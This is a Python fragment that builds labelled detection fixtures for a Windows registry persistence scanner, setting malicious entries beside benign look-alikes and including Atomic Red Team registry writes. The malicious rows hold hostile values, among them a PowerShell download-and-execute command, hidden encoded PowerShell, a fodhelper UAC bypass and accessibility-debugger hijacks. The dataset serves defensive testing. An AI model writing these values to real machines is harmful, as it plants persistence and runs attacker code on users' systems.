 ('netsh_helpers', 'SOFTWARE', 'Microsoft\\NetSh', 'ifmon', 'REG_SZ', 'ifmon.dll', 'Info', '', 'default helper'),
 ('exefile_open_command', 'SOFTWARE', 'Classes\\exefile\\shell\\open\\command', '', 'REG_SZ', '"%1" %*', 'Info', '', 'default'),
 ('active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}', 'StubPath', 'REG_SZ', '%SystemRoot%\\system32\\unregmp2.exe /FirstLogon', 'Low', '', 'Microsoft component'),
 ('screensaver', 'NTUSER', 'Control Panel\\Desktop', 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\Windows\\system32\\Mystify.scr', 'Info', '', 'system screensaver'),
 ('office_addins_hkcu', 'NTUSER', 'Software\\Microsoft\\Office\\Outlook\\Addins\\TeamsAddin.FastConnect', 'Manifest', 'REG_SZ', 'C:\\Program Files (x86)\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll', 'Low', '', 'Teams meeting add-in'),
 # real-hive false positives (docs/real-hive-findings.md)
 ('excludefromknowndlls', 'SYSTEM', SM, 'ExcludeFromKnownDlls', 'REG_MULTI_SZ', '', 'Info', '', 'empty on every install'),
 ('setupexecute', 'SYSTEM', SM, 'SetupExecute', 'REG_MULTI_SZ', '', 'Info', '', 'empty on every install'),
 ('rdp_tcp_initialprogram', 'SYSTEM', 'ControlSet001\\Control\\Terminal Server\\WinStations\\RDP-Tcp', 'InitialProgram', 'REG_SZ', '', 'Info', '', 'empty on every install'),
 ('windows_load_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows', 'Load', 'REG_SZ', '', 'Info', '', 'empty on every profile'),
 ('windows_load_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows', 'Load', 'REG_SZ', '  ', 'Info', '', 'blanks only'),
 ('com_hkcu_proxystub', 'USRCLASS', 'Interface\\{0299ECA9-80B6-43C8-A79A-FB1C5F19E7D8}\\ProxyStubClsid32', '', 'REG_SZ', PSOA, 'Info', '', 'Office type library interface: PSOAInterface'),
 ('com_hkcu_proxystub', 'USRCLASS', 'Interface\\{21C52ECD-6FC8-4FD0-9305-7E09D9BA77F3}\\ProxyStubClsid32', '', 'REG_SZ', '{00020420-0000-0000-C000-000000000046}', 'Info', '', 'PSDispatch'),
 ('com_hkcu_proxystub', 'USRCLASS', 'Interface\\{4410DC33-BC7C-496B-AA84-4AEA3EEE75F7}\\ProxyStubClsid32', '', 'REG_SZ', '{4410DC33-BC7C-496B-AA84-4AEA3EEE75F7}', 'Low', 'val|USRCLASS|CLSID\\{4410DC33-BC7C-496B-AA84-4AEA3EEE75F7}\\InProcServer32||REG_SZ|C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\18.044.0301.0006\\amd64\\FileCoAuthLib64.dll', 'OneDrive per-user proxy/stub'),
 ('winsock_autodialdll', 'SYSTEM', 'ControlSet001\\Services\\WinSock2\\Parameters', 'AutodialDLL', 'REG_SZ', 'rasadhlp.dll', 'Info', '', 'default without a folder'),
 ('securityproviders', 'SYSTEM', 'ControlSet001\\Control\\SecurityProviders', 'SecurityProviders', 'REG_SZ', 'msapsspc.dll, schannel.dll, digest.dll, msnsspc.dll', 'Info', '', 'legacy default (Vista era)'),
 ('securityproviders', 'SYSTEM', 'ControlSet001\\Control\\SecurityProviders', 'SecurityProviders', 'REG_SZ', 'credssp.dll', 'Info', '', 'Windows 7+ default'),
 ('sm_subsystems_windows', 'SYSTEM', SM + '\\SubSystems', 'Windows', 'REG_EXPAND_SZ', W7_CSRSS, 'Info', '', 'Windows 7 default (ConServerDllInitialization)'),
 ('svc_failurecommand_msiscsi', 'SYSTEM', 'ControlSet001\\Services\\MSiSCSI', 'FailureCommand', 'REG_SZ', 'customScript.cmd', 'Info', '', 'Windows default'),
 ('svc_failurecommand_wpcsvc', 'SYSTEM', 'ControlSet001\\Services\\WPCSvc', 'FailureCommand', 'REG_SZ', 'customScript.cmd', 'Info', '', 'Windows default'),
 ('svc_failurecommand', 'SYSTEM', 'ControlSet001\\Services\\NVDisplay.ContainerLocalSystem', 'FailureCommand', 'REG_SZ', 'cmd.exe /C %windir%\\NvContainerRecovery.bat NVDisplay.ContainerLocalSystem C:\\ProgramData\\NVIDIA\\NvContainerRecoveryNVDisplay.ContainerLocalSystem.log', 'Medium', '', 'NVIDIA container recovery'),
 ('network_provider_dll', 'SYSTEM', 'ControlSet001\\Services\\vmhgfs\\networkprovider', 'ProviderPath', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\vmhgfs.dll', 'Medium', '', 'VMware Tools shared folders'),
]
def add_benign(lst):
    for (lid, hive, k, v, t, d, mx, ctx, note) in lst:
        tech = '' if lid == '-' else next(r[1] for r in rows if r[0] == lid)
        out.append('\t'.join(['benign', lid, hive, k, v, t, d, tech, '', mx, ctx, '', note]))
add_benign(B)
# Per-class rows of issue 9 (docs/scoring.md): for each class one malicious entry and one benign
# look-alike. `build|N` in the context sets the host's CurrentBuildNumber.
def packed_item(path):
    """Winsock PackedCatalogItem: ANSI provider path in a MAX_PATH field, then WSAPROTOCOL_INFOW."""
    return ((path.encode('ascii') + b'\0').ljust(260, b'\0') + bytes(372)).hex()

def bstr(t):
    b = t.encode('utf-16-le')
    return len(b).to_bytes(4, 'little') + b

def task_actions(cmd, args):
    """TaskCache Actions, version 3: principal, then one exec action (0x6666)."""
    return (b'\x03\x00' + bstr('Author') + b'\x66\x66' + bstr('') + bstr(cmd) + bstr(args) +
            bstr('') + b'\x00\x00').hex()

FA_RUN = '805101000000000000000000030000001400000003000000' + '60ea0000' + '00' * 16
FA_RESTART = '805101000000000000000000030000001400000001000000' + '60ea0000' + '01000000' + '60ea0000' + '00000000' + '00000000'
WS = 'ControlSet001\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000001'
TASK = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\' + GUID
SVC = 'ControlSet001\\Services\\'
AS = 'Microsoft\\Active Setup\\Installed Components\\'
ATS = 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\'
DESK = 'Control Panel\\Desktop'
RUNK = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'
LSA = 'ControlSet001\\Control\\Lsa'
M2 = [
 ('winsock_protocol_catalog', 'SYSTEM', WS, 'PackedCatalogItem', 'REG_BINARY', packed_item('C:\\Users\\Public\\lsp.dll'), 'T1546', 'High', '', 'decoded LSP provider in Public'),
 ('taskcache_tasks_actions', 'SOFTWARE', TASK, 'Actions', 'REG_BINARY', task_actions('C:\\Users\\Public\\upd.exe', ''), 'T1053.005', 'Medium', '', 'decoded task action in Public'),
 ('taskcache_tasks_actions', 'SOFTWARE', TASK, 'Actions', 'REG_BINARY', task_actions('powershell.exe', '-nop -w hidden -enc ' + ENC), 'T1053.005', 'High', '', 'decoded task action: encoded PowerShell'),
 ('svc_imagepath', 'SYSTEM', SVC + 'UpdaterSvc', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\ProgramData\\upd\\svc.exe', 'T1543.003', 'Medium', '', 'new service outside the Windows and Program Files folders'),
 ('svc_imagepath', 'SYSTEM', SVC + 'UpdaterSvc', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\Users\\Public\\svc.exe', 'T1543.003', 'High', '', 'new service in a user-writable folder'),
 ('svc_imagepath', 'SYSTEM', SVC + 'Fax', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\Windows\\System32\\notepad.exe', 'T1543.003', 'High', '', 'built-in service re-pointed to an editor'),
 ('svc_imagepath', 'SYSTEM', SVC + 'msiserver', 'ImagePath', 'REG_EXPAND_SZ', '%COMSPEC% /c C:\\ProgramData\\x.bat', 'T1543.003', 'High', '', 'built-in service re-pointed to a shell'),
 ('svc_servicedll', 'SYSTEM', SVC + 'W32Time\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\w32tm32.dll', 'T1543.003', 'High', '', 'built-in svchost service DLL swapped inside System32'),
 ('svc_servicedll', 'SYSTEM', SVC + 'UpdaterSvc\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', 'C:\\ProgramData\\svc.dll', 'T1543.003', 'High', '', 'svchost DLL outside the Windows and Program Files folders'),
 ('svc_imagepath', 'SYSTEM', SVC + 'VendorUpd', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\Program Files\\Vendor Tools\\upd.exe -service', 'T1574.009', 'Medium', '', 'unquoted image path with spaces'),
 ('svc_failurecommand', 'SYSTEM', SVC + 'VendorUpd', 'FailureCommand', 'REG_SZ', 'C:\\Users\\Public\\r.exe', 'T1574.011', 'High', 'val|SYSTEM|%sVendorUpd|FailureActions|REG_BINARY|%s' % (SVC, FA_RUN), 'FailureCommand armed by a run-command action'),
 ('active_setup', 'SOFTWARE', AS + 'atomic_test', 'StubPath', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.014', 'Medium', '', 'Active Setup component with a non-GUID name'),
 ('active_setup', 'SOFTWARE', AS + GUID, 'StubPath', 'REG_SZ', 'C:\\Users\\Public\\stub.exe', 'T1547.014', 'Medium', '', 'Active Setup stub in Public'),
 ('accessibility_ats', 'SOFTWARE', ATS + 'malware_at', 'StartExe', 'REG_SZ', 'C:\\Users\\Public\\at.exe', 'T1546.008', 'Medium', '', 'assistive technology registered from Public'),
 ('screensaver', 'NTUSER', DESK, 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\Windows\\System32\\evilscreensaver.scr', 'T1546.002', 'Medium', '', 'unknown .scr dropped into System32'),
 ('screensaver', 'NTUSER', DESK, 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\Windows\\system32\\Bubbles.scr', 'T1546.002', 'Medium', 'build|2600', 'a Windows 7 screensaver name on Windows XP'),
 ('screensaver', 'NTUSER', DESK, 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\s.scr', 'T1546.002', 'High', '', 'screensaver in Temp'),
 ('progid_shell_open_command_hklm', 'SOFTWARE', 'Classes\\txtfile\\shell\\open\\command', '', 'REG_EXPAND_SZ', 'C:\\Users\\Public\\note.exe %1', 'T1546.001', 'Medium', '', 'file association redirected to Public'),
 ('uacbypass_ms_settings', 'USRCLASS', 'ms-settings\\shell\\open\\command', '', 'REG_SZ', 'cmd.exe /c start C:\\Users\\Public\\x.exe', 'T1548.002', 'High', '', 'ms-settings handler override (fodhelper UAC bypass)'),
 ('app_paths', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\App Paths\\chrome.exe', '', 'REG_SZ', 'C:\\Users\\Public\\chrome.exe', 'T1546', 'Medium', '', 'App Paths entry re-pointed to Public'),
 ('app_paths_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\powershell.exe', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\ps.exe', 'T1546', 'Medium', '', 'per-user App Paths hijack of powershell.exe'),
 ('office_addins_path_hkcu', 'NTUSER', 'Software\\Microsoft\\Office\\Excel\\Addins\\Evil.Addin', 'Path', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\evil.xll', 'T1137.006', 'Medium', '', 'XLL add-in from the user Temp folder'),
 ('hkcu_directory_background_command', 'USRCLASS', 'Directory\\Background\\shell\\Refresh2\\command', '', 'REG_SZ', 'powershell.exe -w hidden -enc ' + ENC, 'T1546', 'High', '', 'folder-background verb running encoded PowerShell'),
 ('rdp_client_clxdllpath', 'SOFTWARE', 'Microsoft\\Terminal Server Client', 'ClxDllPath', 'REG_SZ', 'C:\\Users\\Public\\clx.dll', 'T1547.001', 'High', '', 'mstsc client extension DLL in Public'),
 ('run_hkcu', 'NTUSER', RUNK, 'Sidebar', 'REG_EXPAND_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\Sidebar.exe', 'T1547.001', 'Medium', 'build|7601', 'Windows 7 default name with a user-writable binary'),
 ('lsa_security_packages', 'SYSTEM', LSA, 'Security Packages', 'REG_MULTI_SZ', 'kerberos|msv1_0|schannel|wdigest|tspkg|pku2u|livessp|mimilib', 'T1547.005', 'Medium', 'build|9600', 'Windows 8.1 list plus an SSP'),
 ('pendingfilerenameoperations', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'PendingFileRenameOperations', 'REG_MULTI_SZ', '\\??\\C:\\Users\\Public\\x.dll|!\\??\\C:\\Windows\\System32\\drivers\\etc\\hosts', 'T1574', 'Medium', '', 'a system file replaced at reboot from Public'),
]
for (lid, hive, k, v, t, d, tech, mn, ctx, note) in M2:
    out.append('\t'.join(['malicious', lid, hive, k, v, t, d, tech, mn, '', ctx, '', note]))
B2 = [
 ('winsock_protocol_catalog', 'SYSTEM', WS, 'PackedCatalogItem', 'REG_BINARY', packed_item('%SystemRoot%\\system32\\mswsock.dll'), 'Low', '', 'default MSAFD provider'),
 ('taskcache_tasks_actions', 'SOFTWARE', TASK, 'Actions', 'REG_BINARY', task_actions('%windir%\\system32\\sc.exe', 'start wuauserv'), 'Low', '', 'Windows task action'),
 ('svc_imagepath', 'SYSTEM', SVC + 'VendorUpd', 'ImagePath', 'REG_EXPAND_SZ', '"C:\\Program Files\\Vendor Tools\\upd.exe" -service', 'Low', '', 'quoted vendor service'),
 ('svc_imagepath', 'SYSTEM', SVC + 'Fax', 'ImagePath', 'REG_EXPAND_SZ', '%systemroot%\\system32\\fxssvc.exe', 'Info', '', 'built-in default'),
 ('svc_imagepath', 'SYSTEM', SVC + 'msiserver', 'ImagePath', 'REG_EXPAND_SZ', '%systemroot%\\system32\\msiexec.exe /V', 'Info', '', 'no "inline script" for /V'),
 ('svc_imagepath', 'SYSTEM', SVC + 'acpiex', 'ImagePath', 'REG_EXPAND_SZ', 'System32\\Drivers\\acpiex.sys', 'Low', '', 'driver path without a drive'),
 ('svc_servicedll', 'SYSTEM', SVC + 'MSiSCSI\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\iscsiexe.dll', 'Low', '', 'no "inline script" for iscsiexe.dll'),
 ('svc_servicedll', 'SYSTEM', SVC + 'W32Time\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\w32time.dll', 'Info', '', 'built-in default'),
 ('svc_failurecommand', 'SYSTEM', SVC + 'VendorUpd', 'FailureCommand', 'REG_SZ', '"C:\\Program Files\\Vendor Tools\\recover.exe"', 'Low', 'val|SYSTEM|%sVendorUpd|FailureActions|REG_BINARY|%s' % (SVC, FA_RESTART), 'dormant: FailureActions only restarts'),
 ('active_setup', 'SOFTWARE', AS + '{89820200-ECBD-11cf-8B85-00AA005B4383}', 'StubPath', 'REG_EXPAND_SZ', '%SystemRoot%\\system32\\ie4uinit.exe -UserConfig', 'Low', '', 'Internet Explorer per-user setup'),
 ('accessibility_ats', 'SOFTWARE', ATS + 'osk', 'StartExe', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\osk.exe', 'Low', '', 'On-Screen Keyboard'),
 ('screensaver', 'NTUSER', DESK, 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\WINDOWS\\System32\\logon.scr', 'Info', 'build|2600', 'Windows XP logon screensaver'),
 ('screensaver', 'NTUSER', DESK, 'SCRNSAVE.EXE', 'REG_SZ', '%SystemRoot%\\system32\\PhotoScreensaver.scr', 'Info', 'build|19045', 'Windows 10 Photos screensaver'),
 ('progid_shell_open_command_hklm', 'SOFTWARE', 'Classes\\txtfile\\shell\\open\\command', '', 'REG_EXPAND_SZ', '%SystemRoot%\\system32\\NOTEPAD.EXE %1', 'Low', '', 'default text handler'),
 ('hkcu_shell_open_command', 'USRCLASS', 'VSCode.txt\\shell\\open\\command', '', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" "%1"', 'Medium', '', 'per-user editor association'),
 ('app_paths', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\App Paths\\chrome.exe', '', 'REG_SZ', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'Low', '', 'Chrome App Paths'),
 ('office_addins_path_hkcu', 'NTUSER', 'Software\\Microsoft\\Office\\Excel\\Addins\\Vendor.Addin', 'Path', 'REG_SZ', 'C:\\Program Files\\Vendor\\addin.xll', 'Low', '', 'vendor XLL in Program Files'),
 ('directory_background_command_hklm', 'SOFTWARE', 'Classes\\Directory\\Background\\shell\\VSCode\\command', '', 'REG_EXPAND_SZ', '"C:\\Program Files\\Microsoft VS Code\\Code.exe" "%V"', 'Low', '', 'Open with Code'),
 ('hkcu_directory_background_command', 'USRCLASS', 'Directory\\Background\\shell\\VSCode\\command', '', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" "%V"', 'Medium', '', 'per-user Open with Code'),
 ('run_hkcu', 'NTUSER', RUNK, 'Sidebar', 'REG_EXPAND_SZ', '%ProgramFiles%\\Windows Sidebar\\Sidebar.exe /autoRun', 'Info', 'build|7601', 'Windows 7 default'),
 ('run_hkcu', 'NTUSER', RUNK, 'ctfmon.exe', 'REG_SZ', 'C:\\WINDOWS\\system32\\ctfmon.exe', 'Info', 'build|2600', 'Windows XP default'),
 ('lsa_security_packages', 'SYSTEM', LSA, 'Security Packages', 'REG_MULTI_SZ', 'kerberos|msv1_0|schannel|wdigest|tspkg|pku2u|livessp', 'Info', 'build|9600', 'Windows 8.1 default'),
 ('user_shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 'REG_EXPAND_SZ', '%USERPROFILE%\\Start Menu\\Programs\\Startup', 'Info', 'build|2600', 'Windows XP default'),
 ('pendingfilerenameoperations', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'PendingFileRenameOperations', 'REG_MULTI_SZ', '\\??\\C:\\Windows\\Temp\\x.tmp|', 'Low', '', 'delete at reboot'),
 ('print_processors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\hpzpp', 'Driver', 'REG_SZ', 'hpzppwn7.dll', 'Low', '', 'HP print processor in the spooler folder'),
]
add_benign(B2)
# Atomic Red Team (redcanaryco/atomic-red-team atomics/<T>/<T>.yaml): every registry write of its
# T1547.*, T1546.*, T1543.003, T1037.001, T1137.* and T1574.* persistence tests, with the
# tests' default arguments (PathToAtomicsFolder = C:\AtomicRedTeam\atomics); docs/kb.md lists them.
ART = [
 ('T1547.001#1', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Atomic Red Team', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.exe', 'T1547.001', ''),
 ('T1547.001#2', 'runonceex_depend_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend', '1', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.dll', 'T1547.001', ''),
 ('T1547.001#3', 'runonce_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\RunOnce', 'NextRun', 'REG_SZ', 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1547.001/src/Discovery.bat`")"', 'T1547.001', ''),
 ('T1547.001#8', 'recyclebin_shell_command', 'SOFTWARE', 'Classes\\CLSID\\{645FF040-5081-101B-9F08-00AA002F954E}\\shell\\open\\command', '', 'REG_SZ', 'calc.exe', 'T1546.015', ''),
 ('T1547.001#9', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'socks5_powershell', 'REG_SZ', 'powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File', 'T1547.001', ''),
 ('T1547.001#10', 'user_shell_folders_common_startup', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Common Startup', 'REG_EXPAND_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\atomictest\\', 'T1547.001', ''),
 ('T1547.001#11', 'user_shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 'REG_EXPAND_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\atomictest\\', 'T1547.001', ''),
 ('T1547.001#12', 'policies_explorer_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', 'atomictest', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.001', ''),
 ('T1547.001#13', 'policies_explorer_run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', 'atomictest', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.001', ''),
 ('T1547.001#14', 'winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'C:\\Windows\\system32\\userinit.exe, C:\\Windows\\System32\\calc.exe', 'T1547.004', ''),
 ('T1547.001#15', 'winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\explorer.exe', 'T1547.004', ''),
 ('T1547.001#16', 'run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'calc', 'REG_SZ', 'calc.exe', 'T1547.001', ''),
 ('T1547.001#17', 'bootexecute', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'BootExecute', 'REG_MULTI_SZ', 'autocheck autoche *', 'T1547.001', ''),
 ('T1547.001#18', 'rdpwd_startupprograms', 'SYSTEM', 'ControlSet001\\Control\\Terminal Server\\Wds\\rdpwd', 'StartupPrograms', 'REG_SZ', 'calc', 'T1547.001', ''),
 ('T1547.001#19', 'bootverificationprogram', 'SYSTEM', 'ControlSet001\\Control\\BootVerificationProgram', 'ImagePath', 'REG_SZ', 'C:\\Program Files\\Internet Explorer\\iexplore.exe', 'T1547.001', ''),
 ('T1547.002#1', 'lsa_authentication_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Authentication Packages', 'REG_MULTI_SZ', 'msv1_0|package.dll', 'T1547.002', ''),
 ('T1547.003#1', 'time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\AtomicTest', 'DllName', 'REG_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1547.003', ''),
 ('T1547.003#2', 'time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\NtpServer', 'DllName', 'REG_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1547.003', ''),
 ('T1547.004#1', 'winlogon_shell_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
 ('T1547.004#2', 'winlogon_userinit_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'Userinit.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
 ('T1547.004#3', 'winlogon_notify_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify', 'logon', 'REG_SZ', 'C:\\Windows\\Temp\\atomicNotificationPackage.dll', 'T1547.004', ''),
 ('T1547.004#4', 'winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
 ('T1547.004#5', 'winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'Userinit.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
 ('T1547.005#1', 'lsa_security_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Security Packages', 'REG_MULTI_SZ', '""|not-a-ssp', 'T1547.005', ''),
 ('T1547.010#1', 'print_monitors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Monitors\\AtomicRedTeam', 'Driver', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1547.010\\bin\\PortMonitor.dll', 'T1547.010', ''),
 ('T1547.012#1', 'print_processors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\AtomicRedTeam', 'Driver', 'REG_SZ', 'AtomicTest.dll', 'T1547.012', ''),
 ('T1547.014#1', 'active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\atomic_test', 'StubPath', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.014', ''),
 ('T1547.014#2', 'active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\{C9E9A340-D1F1-11D0-821E-444553540600}', 'StubPath', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.014', ''),
 ('T1546.001#1', 'ext_progid_default', 'SOFTWARE', 'Classes\\.hta', '', 'REG_SZ', 'txtfile', 'T1546.001', ''),
 ('T1546.002#1', 'screensaver', 'NTUSER', 'Control Panel\\Desktop', 'SCRNSAVE.EXE', 'REG_SZ', '%SystemRoot%\\System32\\evilscreensaver.scr', 'T1546.002', ''),
 ('T1546.007#1', 'netsh_helpers', 'SOFTWARE', 'Microsoft\\NetSh', 'NetshHelper', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1546.007\\bin\\NetshHelper.dll', 'T1546.007', ''),
 ('T1546.008#1', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
 ('T1546.008#1b', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
 ('T1546.008#1c', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\DisplaySwitch.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
 ('T1546.008#4', 'accessibility_ats', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\malware_test', 'StartEXE', 'REG_SZ', 'C:\\WINDOWS\\system32\\cmd.exe', 'T1546.008', ''),
 ('T1546.008#5', 'accessibility_ats_configuration', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs', 'Configuration', 'REG_SZ', 'malware_test', 'T1546.008', ''),
 ('T1546.009#1', 'appcertdlls', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\AppCertDlls', 'AtomicTest', 'REG_EXPAND_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1546.009', ''),
 ('T1546.010#1', 'appinit_dlls', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Windows', 'AppInit_DLLs', 'REG_SZ', 'C:\\Tools\\T1546.010.dll,C:\\Tools\\T1546.010x86.dll', 'T1546.010', ''),
 ('T1546.010#1b', 'loadappinit_dlls', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Windows', 'LoadAppInit_DLLs', 'REG_DWORD', '1', 'T1546.010', ''),
 ('T1546.011#1', 'shim_installedsdb', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{7A3C1F2E-9B4D-4E5F-8A6B-1C2D3E4F5A6B}', 'DatabasePath', 'REG_SZ', 'C:\\Windows\\AppPatch\\Custom\\{7A3C1F2E-9B4D-4E5F-8A6B-1C2D3E4F5A6B}.sdb', 'T1546.011', ''),
 ('T1546.011#3', 'shim_custom_direct', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\Custom', 'AtomicRedTeamT1546.011', 'REG_SZ', 'AtomicRedTeamT1546.011', 'T1546.011', ''),
 ('T1546.011#3b', 'shim_installedsdb_direct', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB', 'AtomicRedTeamT1546.011', 'REG_SZ', 'AtomicRedTeamT1546.011', 'T1546.011', ''),
 ('T1546.012#1', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.012', ''),
 ('T1546.012#2', 'ifeo_globalflag', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe', 'GlobalFlag', 'REG_DWORD', '512', 'T1546.012', ''),
 ('T1546.012#2b', 'silentprocessexit_monitor', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe', 'MonitorProcess', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.012', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|512'),
